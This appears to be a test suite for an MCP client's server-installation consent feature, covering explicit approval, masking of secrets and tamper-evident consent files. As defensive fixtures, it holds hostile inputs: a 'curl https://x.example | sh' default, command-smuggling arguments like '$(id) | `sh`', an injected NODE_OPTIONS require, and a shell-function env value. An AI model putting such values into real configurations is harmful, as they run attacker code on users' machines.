// biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders are what configurations have
/** Nothing starts without a yes to exactly that, and what was agreed to is kept so that nobody else can add to it. */

import { execFile } from "node:child_process";
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { describe, expect, onTestFinished, test, vi } from "vitest";
import { connect } from "../../runtime/client/index.js";
import {
  type ConsentQuestion,
  type ConsentStore,
  consentFolder,
  consentText,
  createConsent,
  createFileConsentStore,
  createMemoryConsentStore,
  createTerminalDialog,
  fillInputs,
  type Installation,
  previewInstallation,
  readInstallations,
} from "../../runtime/install/index.js";
import { verifies } from "../verifies.js";

const node = process.execPath;

function installation(more: object = {}, input: Record<string, string> = {}): Installation {
  const entry = {
    command: node,
    args: ["server.js", "--port=80"],
    env: { LOG: "debug", API_KEY: "hunter2" },
    cwd: homedir(),
    ...more,
  };
  const [found] = readInstallations(
    JSON.stringify({ servers: { weather: entry }, inputs: [{ id: "pin", password: true }, { id: "place" }] }),
  );
  if (found === undefined) throw new Error("nothing was read");
  return fillInputs(found, input);
}

function folder(): string {
  const path = mkdtempSync(join(tmpdir(), "mcpwire-consent-"));
  onTestFinished(() => rmSync(path, { recursive: true, force: true }));
  return join(path, "consents");
}

/** A dialog that answers with what it is given, the last for ever. */
function dialog(...answers: unknown[]): { ask: (question: ConsentQuestion) => boolean; questions: ConsentQuestion[] } {
  const questions: ConsentQuestion[] = [];
  return {
    questions,
    ask(question) {
      questions.push(question);
      return answers[Math.min(questions.length, answers.length) - 1] as boolean;
    },
  };
}

const refused = expect.objectContaining({ name: "McpWireError", code: "CONSENT_REFUSED" });

describe("a question", () => {
  test(`is asked before anything is given to start${verifies("SEC-01", "SEC-04")}`, async () => {
    const { ask, questions } = dialog(true);
    const command = await createConsent({ ask, store: createMemoryConsentStore() }).allow(installation());
    expect(questions.length).toBe(1);
    expect(command).toMatchObject({
      command: node,
      args: ["server.js", "--port=80"],
      env: { LOG: "debug", API_KEY: "hunter2" },
      cwd: homedir(),
    });
  });

  test.each([[false], [undefined], [null], ["yes"], [1], [{}], ["true"]])(
    `that is answered with %j is a no${verifies("SEC-04")}`,
    async (answer) => {
      const store = createMemoryConsentStore();
      const consent = createConsent({ ask: dialog(answer).ask, store });
      await expect(consent.allow(installation())).rejects.toEqual(refused);
      expect(await store.list()).toEqual([]);
      expect(await consent.has(installation())).toBe(false);
    },
  );

  test("whose dialog fails is a no, and nothing of it is kept", async () => {
    const store = createMemoryConsentStore();
    const cause = new Error("no window");
    const consent = createConsent({ ask: () => Promise.reject(cause), store });
    await expect(consent.allow(installation())).rejects.toMatchObject({ code: "CALLBACK_FAILED", cause });
    expect(await store.list()).toEqual([]);
    await expect(createConsent({ ask: dialog(true).ask, store }).allow(installation())).resolves.toBeDefined();
  });

  test("cannot be changed while it is read, nor can what it is about", async () => {
    const given = structuredClone(installation()) as { args: string[]; env: Record<string, string> } & Installation;
    const consent = createConsent({
      store: createMemoryConsentStore(),
      ask(question) {
        given.args.push("--evil");
        given.env.NODE_OPTIONS = "--require evil";
        expect(() => (question.command.args as string[]).push("--evil")).toThrow(TypeError);
        expect(() => Object.assign(question.command, { cwd: "/" })).toThrow(TypeError);
        return true;
      },
    });
    const command = await consent.allow(given);
    expect(command.args).toEqual(["server.js", "--port=80"]);
    expect(command.env).not.toHaveProperty("NODE_OPTIONS");
  });

  test("is asked one at a time, and once for the same", async () => {
    let open = 0;
    let most = 0;
    let asked = 0;
    const consent = createConsent({
      store: createMemoryConsentStore(),
      async ask() {
        asked++;
        most = Math.max(most, ++open);
        await new Promise((done) => setTimeout(done, 10));
        open--;
        return true;
      },
    });
    const other = installation({ args: ["other.js"] });
    await Promise.all([
      consent.allow(installation()),
      consent.allow(installation()),
      consent.allow(other),
      consent.allow(installation()),
    ]);
    expect([asked, most]).toEqual([2, 1]);
  });

  test("is not asked about what cannot start: a program that is not there, inputs that are missing, a server elsewhere", async () => {
    const { ask, questions } = dialog(true);
    const consent = createConsent({ ask, store: createMemoryConsentStore() });
    await expect(consent.allow(installation({ command: "no-such-program-here" }))).rejects.toMatchObject({
      code: "SPAWN_FAILED",
    });
    for (const cwd of ["/no/such/folder/here", "${workspaceFolder}", node])
      await expect(consent.allow(installation({ cwd })), cwd).rejects.toMatchObject({
        code: "SPAWN_FAILED",
        message: expect.stringContaining("The folder"),
      });
    await expect(consent.allow(installation({ args: ["${input:place}"] }))).rejects.toMatchObject({
      code: "INVALID_USE",
    });
    const [elsewhere] = readInstallations('{"mcpServers":{"a":{"url":"https://example.com"}}}');
    await expect(consent.allow(elsewhere as Installation)).rejects.toMatchObject({ code: "INVALID_USE" });
    expect(questions).toEqual([]);
  });
});

describe("a yes", () => {
  test(`is remembered for exactly that, and asked for again when anything changes${verifies("SEC-07")}`, async () => {
    const store = createFileConsentStore(folder());
    const { ask, questions } = dialog(true);
    const consent = createConsent({ ask, store });
    await consent.allow(installation());
    await createConsent({ ask, store }).allow(installation());
    expect(questions.length).toBe(1);
    const changes: object[] = [
      { args: ["server.js", "--port=81"] },
      { args: ["server.js", "--port=80", ""] },
      { args: ["server.js --port=80"] },
      { args: ["--port=80", "server.js"] },
      { args: ["server.js", "--port=80\u200b"] },
      { command: "/bin/sh" },
      { env: { LOG: "debug", API_KEY: "hunter3" } },
      { env: { LOG: "debug" } },
      { env: { LOG: "debug", API_KEY: "hunter2", MORE: "" } },
      { env: { LOG: "debug", api_key: "hunter2" } },
      { cwd: tmpdir() },
    ];
    for (const change of changes) {
      const before = questions.length;
      expect(await consent.has(installation(change)), JSON.stringify(change)).toBe(false);
      await consent.allow(installation(change));
      expect(questions.length, JSON.stringify(change)).toBe(before + 1);
      expect(questions.at(-1)?.view.changed).toBe(true);
    }
    const reordered = { env: { API_KEY: "hunter2", LOG: "debug" } };
    expect(await consent.has(installation(reordered))).toBe(true);
  });

  test("is for the file that the name led to: another one earlier in PATH is asked about, and never started unasked", async () => {
    const base = folder();
    const places = ["late", "early"].map((name) => join(base, name));
    for (const place of places) mkdirSync(place, { recursive: true });
    const put = (place: string | undefined): void => {
      writeFileSync(join(String(place), "tool-of-a-test"), "#!/bin/sh\n");
      chmodSync(join(String(place), "tool-of-a-test"), 0o755);
    };
    put(places[0]);
    vi.stubEnv("PATH", [places[1], places[0]].join(":"));
    onTestFinished(() => void vi.unstubAllEnvs());
    const { ask, questions } = dialog(true, false);
    const consent = createConsent({ ask, store: createMemoryConsentStore() });
    const tool = installation({ command: "tool-of-a-test" });
    expect((await consent.allow(tool)).command).toBe(join(String(places[0]), "tool-of-a-test"));
    put(places[1]);
    await expect(consent.allow(tool)).rejects.toEqual(refused);
    expect(questions.map(({ program }) => program)).toEqual([...places].map((place) => join(place, "tool-of-a-test")));
  });

  test("can be taken back, by id or by name, and twice given counts once", async () => {
    const store = createFileConsentStore(folder());
    const consent = createConsent({ ask: dialog(true).ask, store });
    await consent.allow(installation());
    const [entry] = await consent.list();
    await store.add({ ...entry, id: "0123456789abcdef" } as never);
    await consent.allow(installation({ args: ["other.js"] }));
    expect((await consent.list()).length).toBe(3);
    expect((await consent.revoke(String(entry?.id))).length).toBe(2);
    expect(await consent.has(installation())).toBe(false);
    expect((await consent.revoke("weather")).length).toBe(1);
    expect(await consent.list()).toEqual([]);
    expect(await consent.revoke("weather")).toEqual([]);
  });

  test("starts the server with little of this process's environment", async () => {
    vi.stubEnv("SECRET_OF_THE_HOST", "hunter2");
    onTestFinished(() => void vi.unstubAllEnvs());
    const script = fileURLToPath(new URL("fixtures/env-server.mjs", import.meta.url));
    const server = installation({ args: [script] });
    const consent = createConsent({ ask: dialog(true).ask, store: createMemoryConsentStore() });
    const client = await connect(await consent.allow(server));
    onTestFinished(() => client.close());
    const { content } = await client.callTool("env");
    expect(JSON.stringify(content)).toContain("API_KEY");
    expect(JSON.stringify(content)).toContain("PATH");
    expect(JSON.stringify(content)).not.toContain("SECRET_OF_THE_HOST");
  });
});

describe("the texts", () => {
  test(`show all of it, whatever is in it${verifies("SEC-02", "SEC-03", "SEC-07")}`, async () => {
    const long = "x".repeat(50_000);
    const args = ["a b", "", "a\nb", "a\u202eb\u200b", "\u001b[2J\u0007", '"; echo', "$(id) | `sh`", long];
    const { view } = previewInstallation(installation({ args, env: { API_KEY: "hunter2", LOG: "de\u202ebug" } }));
    expect(view.args).toEqual([
      '"a b"',
      '""',
      '"a\\u{a}b"',
      "a\\u{202e}b\\u{200b}",
      "\\u{1b}[2J\\u{7}",
      '"\\"; echo"',
      '"$(id) | `sh`"',
      long,
    ]);
    expect(view.env).toEqual([
      { name: "API_KEY", value: "(secret, not shown)" },
      { name: "LOG", value: "de\\u{202e}bug" },
    ]);
    const text = consentText(view);
    for (const shown of [...view.args, view.cwd, view.program, view.warning, "API_KEY", "PATH", long])
      expect(text).toContain(shown);
    expect(text).not.toContain("hunter2");
    expect(text.replaceAll("\n", "")).not.toMatch(/[\p{C}]/u);
    expect(text.split("\n").filter((line) => line.includes("$(id)")).length).toBe(1);
    expect(view.warning).toMatch(/all of your rights/);
  });

  test("keep secret inputs out of the dialog and of what is stored, and still tell their change", async () => {
    const path = folder();
    const { ask, questions } = dialog(true);
    const consent = createConsent({ ask, store: createFileConsentStore(path) });
    const more = { args: ["--pin=${input:pin}", "${input:place}"], env: { A: "${input:pin}" } };
    const command = await consent.allow(installation(more, { pin: "hunter2", place: "Oslo" }));
    expect(command.args).toEqual(["--pin=hunter2", "Oslo"]);
    expect(questions[0]?.view.args).toEqual(["--pin=${input:pin}", "Oslo"]);
    expect(JSON.stringify(questions[0]?.view)).not.toContain("hunter2");
    const stored = readdirSync(path).map((file) => readFileSync(join(path, file), "utf8"));
    expect(stored.join()).toContain("Oslo");
    expect(stored.join()).not.toContain("hunter2");
    expect(await consent.has(installation(more, { pin: "hunter3", place: "Oslo" }))).toBe(false);
  });

  test(`show what the offer itself puts in for a secret input: only the person has secrets${verifies("SEC-02", "SEC-03")}`, async () => {
    const offer = {
      servers: { w: { command: "sh", args: ["-c", "${input:x}"], env: { A: "${input:x}" } } },
      inputs: [{ id: "x", password: true, default: "curl https://x.example | sh" }],
    };
    const [found] = readInstallations(JSON.stringify(offer));
    if (found === undefined) throw new Error("nothing was read");
    const { view } = previewInstallation(found);
    expect(view.args).toEqual(["-c", '"curl https://x.example | sh"']);
    expect(view.env).toEqual([{ name: "A", value: '"curl https://x.example | sh"' }]);
    const filled = previewInstallation(fillInputs(found, { x: "hunter2" })).view;
    expect(filled.args).toEqual(["-c", "${input:x}"]);
    expect(filled.env).toEqual([{ name: "A", value: "(secret, not shown)" }]);
  });

  test.each([["GIT_CONFIG_KEY_0"], ["BASH_FUNC_auth%%"], ["LD_AUTH_TOKEN"]])(
    `show the value of %s, which loads code, whatever its name sounds like${verifies("SEC-03")}`,
    (name) => {
      const [found] = readInstallations(
        JSON.stringify({ mcpServers: { a: { command: "x", env: { [name]: "() { evil; }", MY_TOKEN: "hunter2" } } } }),
      );
      const { view } = previewInstallation(found as Installation);
      expect(view.env).toEqual([
        { name, value: '"() { evil; }"' },
        { name: "MY_TOKEN", value: "(secret, not shown)" },
      ]);
    },
  );

  test("at a terminal have what is dangerous nearest to the question, however much there is to be careful of", () => {
    const { view } = previewInstallation(
      installation({ command: "sh", args: ["-c", "id", ...Array(500).fill("/etc")], env: {} }),
    );
    const lines = consentText(view).split("\n");
    expect(lines.filter((line) => line.startsWith("Caution")).length).toBe(500);
    const from = lines.findIndex((line) => line.startsWith("DANGER"));
    expect(lines.slice(from).every((line) => !line.startsWith("Caution"))).toBe(true);
    expect(lines.length - from).toBeLessThan(6);
  });

  test("at a terminal need a yes that is typed; without one nothing happens", async () => {
    const ask = async (typed: string | undefined): Promise<unknown> => {
      const [input, output] = [new PassThrough(), new PassThrough()];
      const dialogOf = createTerminalDialog({ input, output, ...(typed === undefined ? {} : { terminal: true }) });
      if (typed !== undefined) input.end(typed);
      const consent = createConsent({ ask: dialogOf, store: createMemoryConsentStore() });
      return await consent.allow(installation()).catch((error: unknown) => error);
    };
    expect(await ask("yes\n")).toMatchObject({ command: node });
    for (const typed of ["\n", "y\n", "no\n", "yes please\n", ""]) expect(await ask(typed), typed).toEqual(refused);
    expect(await ask(undefined)).toEqual(refused);
  });
});

describe("the files", () => {
  test.each<[string, (path: string) => void]>([
    ["whose folder is a file", (path) => writeFileSync(path, "")],
    ["above whose folder is a file", (path) => writeFileSync(join(path, ".."), "")],
  ])("%s stop everything, and say so", async (_what, spoil) => {
    const path = join(folder(), "below", "consents");
    mkdirSync(join(path, "../.."), { recursive: true });
    if (_what.startsWith("whose")) mkdirSync(join(path, ".."));
    spoil(path);
    const store = createFileConsentStore(path);
    await expect(store.list()).rejects.toMatchObject({ code: "CONSENT_STORE" });
    await expect(store.add({ id: "0123456789abcdef" } as never)).rejects.toMatchObject({ code: "CONSENT_STORE" });
    await expect(store.remove("0123456789abcdef")).rejects.toMatchObject({ code: "CONSENT_STORE" });
  });

  test("that cannot be written stop everything after the yes, and say so", async () => {
    const path = folder();
    const ask = (): boolean => {
      writeFileSync(path, "");
      return true;
    };
    const store = createFileConsentStore(join(path, "consents"));
    await expect(createConsent({ ask, store }).allow(installation())).rejects.toMatchObject({
      code: "CONSENT_STORE",
      message: expect.stringContaining("cannot be made"),
    });
  });

  const entryOf = async (store: ConsentStore): Promise<string> => String((await store.list())[0]?.id);

  test("are for the person alone, and hold no values", async () => {
    const path = folder();
    const store = createFileConsentStore(path);
    await createConsent({ ask: dialog(true).ask, store }).allow(installation());
    const file = join(path, `${await entryOf(store)}.json`);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(path).mode & 0o777).toBe(0o700);
    expect(readdirSync(path).length).toBe(1);
    expect(readFileSync(file, "utf8")).not.toContain("hunter2");
  });

  test.each<[string, (file: string) => void]>([
    ["no longer JSON", (file) => writeFileSync(file, "{")],
    ["cut off", (file) => writeFileSync(file, readFileSync(file).subarray(0, 40))],
    ["empty", (file) => writeFileSync(file, "")],
    ["of another shape", (file) => writeFileSync(file, '{"id":1}')],
    ["with a key twice", (file) => writeFileSync(file, readFileSync(file, "utf8").replace("{", '{"digest":"00",'))],
    ["open to others", (file) => chmodSync(file, 0o644)],
    ["in a folder that is open to others", (file) => chmodSync(join(file, ".."), 0o777)],
    [
      "a link",
      (file) => {
        writeFileSync(join(file, "../../elsewhere"), readFileSync(file), { mode: 0o600 });
        rmSync(file);
        symlinkSync("../elsewhere", file);
      },
    ],
    [
      "under another name",
      (file) => {
        writeFileSync(file.replace(/[\da-f]{16}\.json$/, "0123456789abcdef.json"), readFileSync(file), { mode: 0o600 });
      },
    ],
  ])("that are %s stop everything, and say so", async (_what, tamper) => {
    const path = folder();
    const store = createFileConsentStore(path);
    const { ask, questions } = dialog(true);
    const consent = createConsent({ ask, store });
    await consent.allow(installation());
    tamper(join(path, `${await entryOf(store)}.json`));
    await expect(consent.allow(installation())).rejects.toMatchObject({ code: "CONSENT_STORE" });
    await expect(consent.list()).rejects.toMatchObject({ code: "CONSENT_STORE" });
    expect(questions.length).toBe(1);
  });

  test.each([
    ["args", (text: string) => text.replace("server.js", "evil.js")],
    ["the program", (text: string) => text.replace(`"program": ${JSON.stringify(node)}`, '"program": "/bin/sh"')],
    ["the digest", (text: string) => text.replace(/"digest": "(..)/, '"digest": "zz')],
    ["the salt", (text: string) => text.replace(/"salt": "\w+"/, '"salt": ""')],
  ])("with other %s are good for nothing", async (_what, change) => {
    const path = folder();
    const store = createFileConsentStore(path);
    const consent = createConsent({ ask: dialog(true, false).ask, store });
    await consent.allow(installation());
    const file = join(path, `${await entryOf(store)}.json`);
    const changed = change(readFileSync(file, "utf8"));
    expect(changed).not.toBe(readFileSync(file, "utf8"));
    writeFileSync(file, changed);
    await expect(consent.allow(installation())).rejects.toEqual(refused);
    await expect(consent.allow(installation({ args: ["evil.js", "--port=80"] }))).rejects.toEqual(refused);
  });

  test("of processes that write at once are all there", async () => {
    const path = folder();
    const script = fileURLToPath(new URL("fixtures/agree.mjs", import.meta.url));
    const run = promisify(execFile);
    await Promise.all(["a", "b", "c"].map((name) => run(node, [script, path, name])));
    const entries = await createFileConsentStore(path).list();
    expect(entries.map(({ name }) => name).toSorted()).toEqual(
      ["a", "b", "c"].flatMap((name) => Array<string>(10).fill(name)),
    );
    expect(readdirSync(path).filter((file) => !file.endsWith(".json"))).toEqual([]);
  });

  test("lie where the platform keeps such things", () => {
    vi.stubEnv("XDG_CONFIG_HOME", "/somewhere");
    onTestFinished(() => void vi.unstubAllEnvs());
    const expected = process.platform === "linux" ? "/somewhere/mcpwire/consents" : expect.stringContaining("mcpwire");
    expect(consentFolder()).toEqual(expected);
    vi.stubEnv("XDG_CONFIG_HOME", "relative");
    expect(consentFolder()).toContain(homedir());
  });
});
